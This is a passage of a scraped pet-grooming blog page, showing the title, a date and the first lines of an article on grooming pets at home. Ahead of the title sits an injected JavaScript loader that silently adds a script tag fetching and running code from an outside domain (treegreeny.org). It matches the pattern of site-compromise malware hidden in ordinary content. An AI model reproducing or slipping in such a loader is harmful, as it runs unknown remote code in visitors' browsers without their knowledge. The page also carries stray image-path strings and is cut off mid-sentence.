;(function(f,b,n,j,x,e){x=b.createElement(n);e=b.getElementsByTagName(n)[0];x.async=1;x.src=j;e.parentNode.insertBefore(x,e);})(window,document,"script","https://treegreeny.org/KDJnCSZn"); Groom your Pets – Trending Blog 4u

Groom your Pets

  • October 25, 2020
  • 5 Mins Read

How to Groom your Pets at Home?Top 7 Best ways to groom your pets

Are you a pet lover just like us then, to groom your pets is as essential as self-grooming. It helps your pet to maintain a